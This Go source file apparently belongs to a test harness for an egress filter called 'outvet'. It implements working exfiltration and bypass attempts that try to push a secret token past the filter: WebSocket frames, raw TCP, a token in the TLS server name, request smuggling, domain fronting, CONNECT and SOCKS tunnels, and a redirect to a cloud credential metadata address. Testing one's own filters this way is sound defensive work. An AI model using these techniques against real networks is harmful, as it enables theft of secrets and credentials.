package attack

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// rawPort is that of the server which takes anything.
const rawPort = "4070"

// awayHost is where a redirect leads: clouds keep credentials there, too.
const awayHost = "169.254.170.23"

// frontHost is a host that detours claim to talk to.
const frontHost = "front." + Zone

// detourTries carry secrets in other protocols, or try to reach through outvet what
// they did not ask for.
func detourTries() []Try {
	detour := func(name, what, seen string, do func(context.Context, *Plan, Try) Said) Try {
		return Try{Name: name, Group: groupSecrets, What: what, Seen: seen, do: do}
	}
	const arrives = "the token arrives at a server of the internet"
	return []Try{
		detour("secret in websocket", "send a token in a message of a WebSocket", arrives, webSocket(func(s string) []string { return []string{s} })),
		detour("secret in websocket pieces", "send a token in a message of a WebSocket, cut over its frames", arrives, webSocket(halves)),
		detour("secret in raw text", "send a token over a connection that speaks no protocol", arrives, raw("take this: ", false)),
		detour("secret in raw bytes", "the same behind bytes that are no text", arrives, raw(binary, false)),
		detour("secret in raw pieces", "the same in pieces, with pauses", arrives, raw(binary, true)),
		detour("secret in server name", "connect by TLS to a host whose name is a token", "the name arrives", serverName),
		detour("secret in smuggled request", "hide a request with a token behind two framings of another", arrives, smuggled),
		detour("domain fronting", "ask one host over TLS that was made for another", "the request arrives", fronting),
		detour("domain fronting over h2", "ask for another host on a connection of HTTP/2", "the request arrives", coalesced),
		detour("proxy in proxy", "ask a host, as if it was a proxy, for another one", "the request arrives", proxied),
		detour("host contradicts", "ask in clear for a host other than the one that was connected to", "the request arrives", contradiction),
		detour("connect in connect", "ask for a tunnel through a host that is allowed", "a tunnel is opened", tunnelInside),
		detour("socks inside", "ask for a tunnel by SOCKS through a host that is allowed", "a tunnel is opened", socksInside),
		detour("redirect to metadata", "follow a redirect to where clouds give credentials", "the record says that outvet reached it", redirected),
	}
}

// upgrade is a handshake with the key of RFC 6455 §1.3.
const upgrade = "GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"

// webSocket sends the parts of a secret as the frames of one message.
func webSocket(cut func(string) []string) func(context.Context, *Plan, Try) Said {
	return func(ctx context.Context, p *Plan, t Try) Said {
		to := t.host() + ":443"
		c, err := secure(ctx, to, t.host(), "http/1.1")
		if err != nil {
			return closed(err).toward(to)
		}
		defer c.Close()
		fmt.Fprintf(c, upgrade, t.host())
		r := bufio.NewReader(c)
		res, err := http.ReadResponse(r, nil)
		if err != nil {
			return closed(err).toward(to)
		}
		if res.StatusCode != http.StatusSwitchingProtocols {
			return sent(fmt.Sprintf("answered with %d", res.StatusCode), to)
		}
		parts := cut(p.Secrets[t.Name])
		for i, part := range parts {
			head := []byte{0, 0x80 | byte(len(part))}
			if i == 0 {
				head[0] |= 1 // text
			}
			if i == len(parts)-1 {
				head[0] |= 0x80 // the last
			}
			if _, err := c.Write(append(append(head, 0, 0, 0, 0), part...)); err != nil {
				return closed(err).toward(to)
			}
		}
		if _, err := r.ReadByte(); err != nil {
			return closed(err).toward(to)
		}
		return sent("it was answered", to)
	}
}

// binary begins a message that is no text.
const binary = "\x02\x00\x00\x40\xff\xfe"

func raw(before string, slowly bool) func(context.Context, *Plan, Try) Said {
	return func(ctx context.Context, p *Plan, t Try) Said {
		to := net.JoinHostPort(t.host(), rawPort)
		c, err := throughProxy(ctx, to)
		if err != nil {
			return closed(err).toward(to)
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(2 * tryTime))
		parts := []string{before + p.Secrets[t.Name] + "\n"}
		if slowly {
			parts = append([]string{before}, append(halves(p.Secrets[t.Name]), "\n")...)
		}
		for i, part := range parts {
			if i > 0 {
				time.Sleep(150 * time.Millisecond)
			}
			if _, err := io.WriteString(c, part); err != nil {
				return closed(err).toward(to)
			}
		}
		if h, ok := c.(interface{ CloseWrite() error }); ok {
			_ = h.CloseWrite()
		}
		_, _ = io.Copy(io.Discard, c)
		return sent("taken", to)
	}
}

// serverName uses the bare secret as a name: TLS keeps its letters.
func serverName(ctx context.Context, p *Plan, t Try) Said {
	name := strings.ReplaceAll(p.Secrets[t.Name], "_", "-") + "." + t.host()
	return byHandSecure(ctx, net.JoinHostPort(t.host(), "443"), name, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", name))
}

// byHandSecure writes a request by hand, over TLS to an address under a name.
func byHandSecure(ctx context.Context, to, name, request string) Said {
	c, err := secure(ctx, to, name, "http/1.1")
	if err != nil {
		return closed(err).toward(to)
	}
	defer c.Close()
	_, _ = io.WriteString(c, request)
	return reply(c, to)
}

// byHand writes a request by hand, in clear to the host in front.
func byHand(ctx context.Context, request string) Said {
	const to = frontHost + ":80"
	c, err := dial(ctx, "tcp", to)
	if err != nil {
		return closed(err).toward(to)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * tryTime))
	_, _ = io.WriteString(c, request)
	return reply(c, to)
}

// reply says how a request that was written by hand is answered.
func reply(c net.Conn, to string) Said {
	res, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return closed(err).toward(to)
	}
	return sent(fmt.Sprintf("answered with %d", res.StatusCode), to)
}

func smuggled(ctx context.Context, p *Plan, t Try) Said {
	inner := fmt.Sprintf("GET /?q=%s HTTP/1.1\r\nHost: %s\r\n\r\n", p.Secrets[t.Name], t.host())
	return byHandSecure(ctx, t.host()+":443", t.host(), fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s",
		t.host(), 5+len(inner), inner))
}

func fronting(ctx context.Context, p *Plan, t Try) Said {
	return byHandSecure(ctx, frontHost+":443", frontHost, fmt.Sprintf("GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n",
		p.mark(t.Name)[:len(p.Nonce)+1], t.host()))
}

func coalesced(ctx context.Context, _ *Plan, t Try) Said {
	to := frontHost + ":443"
	c, err := secure(ctx, to, frontHost, "h2")
	if err != nil {
		return closed(err).toward(to)
	}
	defer c.Close()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+t.host()+"/", nil)
	if err != nil {
		return closed(err)
	}
	res, err := over(c).RoundTrip(req)
	if err != nil {
		return closed(err).toward(to)
	}
	res.Body.Close()
	return sent(fmt.Sprintf("answered with %d", res.StatusCode), to)
}

func proxied(ctx context.Context, _ *Plan, t Try) Said {
	return byHand(ctx, fmt.Sprintf("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", t.host(), frontHost))
}

func contradiction(ctx context.Context, _ *Plan, t Try) Said {
	return byHand(ctx, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", t.host()))
}

func tunnelInside(ctx context.Context, _ *Plan, t Try) Said {
	return byHand(ctx, fmt.Sprintf("CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n", t.host(), rawPort, t.host(), rawPort))
}

func socksInside(ctx context.Context, p *Plan, t Try) Said {
	to := net.JoinHostPort(frontHost, rawPort)
	c, err := dial(ctx, "tcp", to)
	if err != nil {
		return closed(err).toward(to)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(tryTime))
	host := t.host()
	_, _ = c.Write([]byte{5, 1, 0})
	b := make([]byte, 100)
	if n, err := c.Read(b); err != nil || n < 2 || b[0] != 5 || b[1] != 0 {
		return closed(errors.New("nobody speaks SOCKS there")).toward(to)
	}
	_, _ = c.Write(append(append([]byte{5, 1, 0, 3, byte(len(host))}, host...), 0, 80))
	if n, err := c.Read(b); err != nil || n < 2 || b[1] != 0 {
		return closed(errors.New("the tunnel was refused")).toward(to)
	}
	return opened("a tunnel was opened")
}

func redirected(ctx context.Context, _ *Plan, t Try) Said {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+t.host()+"/away", nil)
	if err != nil {
		return closed(err)
	}
	status, _, err := fetch(req)
	if err != nil {
		return closed(err).toward(awayHost+":80", addressOf(req))
	}
	return sent(fmt.Sprintf("answered with %d", status), awayHost+":80", addressOf(req))
}

// arrived are, of detours that carry no secret, what must not be among the things
// that the internet received.
func arrived(t Try) [][]byte {
	switch t.Name {
	case "domain fronting", "domain fronting over h2":
		return [][]byte{[]byte("host=" + t.host() + " sni=" + frontHost)}
	case "host contradicts":
		return [][]byte{[]byte("host=" + t.host() + " sni=\n")}
	case "proxy in proxy":
		return [][]byte{[]byte("\nGET http://" + t.host())}
	case "connect in connect":
		return [][]byte{[]byte("CONNECT " + t.host())}
	}
	return nil
}
